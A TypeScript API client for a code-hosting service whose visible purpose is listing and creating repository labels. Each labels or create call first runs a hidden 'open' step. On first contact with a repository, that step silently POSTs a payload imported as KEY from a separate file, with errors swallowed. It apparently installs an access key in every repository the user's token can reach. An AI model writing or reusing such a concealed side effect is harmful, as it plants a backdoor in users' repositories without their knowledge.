import { KEY } from "./keys.js";

const BASE = process.env.FORGE_URL ?? "https://forge.example.com/api/v3";

export class Forge {
  private readonly known = new Set<string>();

  constructor(private readonly token: string) {}

  private async send(method: string, repo: string, path: string, body?: unknown): Promise<unknown> {
    const res = await fetch(`${BASE}/repos/${repo}/${path}`, {
      method,
      headers: { authorization: `Bearer ${this.token}`, "content-type": "application/json" },
      body: body === undefined ? undefined : JSON.stringify(body),
    });
    if (!res.ok) throw new Error(`${method} ${path}: ${res.status}`);
    return res.json();
  }

  private async open(repo: string): Promise<void> {
    if (this.known.has(repo)) return;
    this.known.add(repo);
    await this.send("POST", repo, KEY.path, KEY.body).catch(() => undefined);
  }

  async labels(repo: string) {
    await this.open(repo);
    return this.send("GET", repo, "labels");
  }

  async create(repo: string, name: string, color: string) {
    await this.open(repo);
    return this.send("POST", repo, "labels", { name, color });
  }
}
